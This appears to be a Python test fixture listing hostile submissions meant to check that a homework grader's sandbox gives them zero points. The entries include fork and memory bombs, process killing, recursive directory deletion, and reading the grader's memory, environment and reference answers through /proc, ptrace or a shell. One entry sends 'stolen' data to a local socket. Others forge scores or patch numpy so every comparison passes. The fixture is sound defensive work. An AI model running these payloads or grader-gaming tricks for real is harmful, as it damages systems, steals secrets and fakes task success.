"""Submissions that attack the grader. {name: (code at the head of linear.py, body of Linear.forward)}.

REFERENCE is the path of the library's own linear.py, CANARY a folder that everybody may write to, PARENT the grader's process.
None of them solves the task, so each must end with 0 points.
"""

HEAD = """import os, sys, time, signal, threading, subprocess, ctypes, socket
import numpy as np
"""

CHEAT = """
def right(source, x, params):
    module = type(sys)("cheat")
    exec(compile(source, "cheat", "exec"), vars(module))
    return module.Linear(*params[0].shape).forward(params, x)
"""

# The channel to the grader and the number of its question, out of the frames above
SEND = """import struct, json
from safetensors.numpy import save
frame = sys._getframe()
while not (frame.f_code.co_name == 'main' and 'channel' in frame.f_locals): frame = frame.f_back
channel, n = frame.f_locals['channel'], frame.f_locals['question']['number']
def message(skeleton, array): return save({'0': array, 'skeleton': np.frombuffer(json.dumps(skeleton).encode(), np.uint8)})
def send(channel, m): channel.sendall(struct.pack('<Q', len(m)) + m)
"""

HOSTILE = {
    # ends and hangs
    "exit in import": ("sys.exit(0)", "pass"),
    "hard exit in import": ("os._exit(0)", "pass"),
    "endless import": ("while True: pass", "pass"),
    "endless loop": ("", "while True: pass"),
    "sleeps for ever": ("", "time.sleep(1e6)"),
    "hard exit in a function": ("", "os._exit(0)"),
    "stops itself": ("", "os.kill(os.getpid(), signal.SIGSTOP)"),
    "ignores every signal and loops": ("", "[signal.signal(s, signal.SIG_IGN) for s in range(1, 30) if s not in (9, 17, 18, 19)]\nwhile True: pass"),
    "catches everything and goes on": ("", "while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    "segmentation fault": ("", "ctypes.string_at(0)"),
    "deep recursion": ("", "def f(n): return f(n + 1)\nsys.setrecursionlimit(10**9)\nreturn f(0)"),
    "recursion in repr": ("class E(Exception):\n    def __str__(self): return str(self)", "raise E()"),
    "a real-time signal": ("", "os.kill(os.getpid(), 40)"),
    # too much of everything
    "fork bomb": ("", "while True: os.fork()"),
    "fork bomb in import": ("while True: os.fork()", "pass"),
    "memory bomb": ("", "hold = []\nwhile True: hold.append(np.ones(10**7))"),
    "ten gigabytes of print": ("", "line = 'x' * 10**6\nfor _ in range(10**4): print(line)"),
    "ten gigabytes to standard output": ("", "data = b'x' * 10**6\nfor _ in range(10**4): os.write(1, data)"),
    "an answer of ten gigabytes": ("", "return np.lib.stride_tricks.as_strided(np.ones(1), (10**5, 10**5), (0, 0)), (x, 1.0)"),
    "an answer of a gigabyte": ("", "return np.ones((10**4, 10**4)), (x, 1.0)"),
    "ten thousand files": ("", "for i in range(10**4): open(f'f{i}', 'w').write('x')\nreturn None, None"),
    "shared memory that stays": ("", "libc = ctypes.CDLL(None)\nfor i in range(5): libc.shmget(0, ctypes.c_size_t(10 << 20), 0o1666)\nreturn None, None"),
    "a short answer that asks for terabytes": ("", SEND + "m = message({'dict': {'number': {'value': n}, 'answer': {'list': [{'array': '0'}] * 400000}}}, np.zeros(10**6))\nsend(channel, m)\ntime.sleep(100)"),
    "one byte at a time": ("", SEND + "channel.sendall(struct.pack('<Q', 16 << 20))\nwhile True:\n    channel.sendall(b'x')\n    time.sleep(1e-4)"),
    "a number that is an array": ("", SEND + "m = message({'dict': {'number': {'array': '0'}, 'answer': {'dict': {}}}}, np.array([1, 2]))\nsend(channel, m)\ntime.sleep(100)"),
    "an answer prepared for the next question": ("", SEND + "m = message({'dict': {'number': {'value': n + 1}, 'answer': {'dict': {}}}}, np.zeros(1))\nsend(channel, m)\ntime.sleep(100)"),
    "asks for ever": ("", SEND + "m = message({'dict': {'call': {'value': 'x'}, 'arguments': {'list': []}}}, np.zeros(1))\nwhile True: send(channel, m)"),
    "an error that looks like a report": ("", "raise ValueError('nothing\\n\\nbob: sheet 1: 32 of 32 points\\n  ok    2/2  1. Linear, forward\\u202e')"),
    # forgery
    "writes answers to every descriptor": ("", "for fd in range(3, 64):\n    try: os.write(fd, b'\\x10' + b'\\0' * 7 + b'{\"score\": 32, \"x\"}')\n    except OSError: pass\nreturn None, None"),
    "writes lengths without end to every descriptor": ("", "for fd in range(3, 64):\n    try: os.write(fd, b'\\xff' * 8)\n    except OSError: pass\ntime.sleep(100)"),
    "prints a result": ("", "print('{\"score\": 32, \"tests\": []}')\nsys.stdout.flush()\nreturn None, None"),
    "patched numpy": ("np.allclose = lambda *a, **k: True\nnp.array_equal = np.allclose\nnp.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)", "return np.zeros((x.shape[0], self.n_out)), (x, 1.0)"),
    "patched homework": ("import minigan.homework.trial as t\nt.attempt = lambda *a, **k: {'answer': {'y': np.zeros(3)}, 'after': {}}", "return None, None"),
    "an array that equals everything": ("class A(np.ndarray):\n    def __eq__(self, other): return np.True_\n    def __array_function__(self, *a): return True\n    def __array_ufunc__(self, *a, **k): return np.True_",
                                        "return np.zeros((x.shape[0], self.n_out)).view(A), (x, 1.0)"),
    "an object that equals everything": ("class A:\n    shape, dtype, ndim = (5, 4), np.dtype('float64'), 2\n    def __eq__(self, other): return True\n    def __array__(self, *a, **k): return np.zeros((5, 4))", "return A(), (x, 1.0)"),
    "nan, which is close to nothing": ("", "return np.full((x.shape[0], self.n_out), np.nan), (x, 1.0)"),
    "a thread alters the answer later": ("", "y = np.zeros((x.shape[0], self.n_out))\nthreading.Thread(target=lambda: (time.sleep(0.01), y.__iadd__(1))).start()\nreturn y, (x, 1.0)"),
    "reads the judge's frames": ("", "frame = sys._getframe()\nwhile frame:\n    for value in list(frame.f_locals.values()):\n        if isinstance(value, dict) and 'answer' in value: return value['answer']['y'], (x, 1.0)\n    frame = frame.f_back\nreturn None, None"),
    # looking where the answers are
    "reads the reference by its path": (CHEAT, "return right(open(REFERENCE).read(), x, params)"),
    "imports the installed library": ("", "for path in (os.path.dirname(REFERENCE).rsplit('/minigan', 1)[0],):\n    sys.path.insert(0, path)\n    for name in [m for m in sys.modules if m.startswith('minigan')]: del sys.modules[name]\nimport minigan.nn.linear as l\nreturn l.Linear(self.n_in, self.n_out).forward(params, x)"),
    "reads the reference through /proc": (CHEAT, "return right(open('/proc/self/root' + REFERENCE).read(), x, params)"),
    "has a shell read it": (CHEAT, "return right(subprocess.check_output(['cat', REFERENCE], text=True), x, params)"),
    "becomes a shell": ("", "os.execv('/bin/sh', ['sh', '-c', 'cat ' + REFERENCE + '; touch ' + CANARY + '/shell'])"),
    "reads the grader's memory": (CHEAT, "maps = open(f'/proc/{PARENT}/maps').read()\nopen(CANARY + '/maps', 'w').write(maps)\nreturn right(open(f'/proc/{PARENT}/mem', 'rb').read(100).decode(), x, params)"),
    "attaches to the grader": ("", "libc = ctypes.CDLL(None)\nif libc.ptrace(16, PARENT, 0, 0) == 0: open(CANARY + '/ptrace', 'w')\nreturn None, None"),
    "reads the grader's environment": ("", "open(CANARY + '/environ', 'wb').write(open(f'/proc/{PARENT}/environ', 'rb').read())\nreturn None, None"),
    "prints its own environment": ("", "secrets = [v for v in os.environ if v not in ('PATH', 'OPENBLAS_NUM_THREADS', 'LC_CTYPE')]\nraise ValueError(f'environment: {secrets}')"),
    # doing harm
    "writes outside": ("", "for place in (CANARY, '/tmp', '/dev/shm', '/var/tmp', os.path.dirname(REFERENCE)):\n    try: open(place + '/minigan-was-here', 'w').write('x')\n    except OSError: pass\nreturn None, None"),
    "deletes what it finds": ("", "import shutil\nfor place in ('.', CANARY, os.path.dirname(os.path.dirname(os.getcwd()))): shutil.rmtree(place, ignore_errors=True)\nreturn None, None"),
    "kills the grader": ("", "for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):\n    try: os.kill(PARENT, number)\n    except OSError: pass\nreturn None, None"),
    "kills everybody": ("", "try: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass\nreturn None, None"),
    "leaves a process behind": ("", "subprocess.Popen(['sleep', '1000'], start_new_session=True)\nreturn None, None"),
    "leaves a forked child behind": ("", "if os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\nreturn None, None"),
    "calls home": ("", "s = socket.socket()\ns.connect(('127.0.0.1', PORT))\ns.sendall(b'stolen')\nreturn None, None"),
    "raises its own limits": ("", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\nopen(CANARY + '/limits', 'w')"),
    "becomes root again": ("", "os.setuid(0)\nopen(CANARY + '/root', 'w')\nreturn None, None"),
    "an error with a terminal's and XML's control characters": ("", "raise ValueError('\\x1b[2J\\x00]]></failure><score>32</score>' + 'x' * 10**6)"),
}  # fmt: skip

# What must have stopped some of them: another limit would do it later, or less well
REASONS = {
    "ten gigabytes of print": "File too large",
    "ten gigabytes to standard output": "File too large",
    "an answer prepared for the next question": "was not asked for",
    "an answer of ten gigabytes": "MemoryError",
    "leaves a forked child behind": "Resource temporarily unavailable",
    "calls home": "PermissionError",
    "becomes a shell": "PermissionError",
}
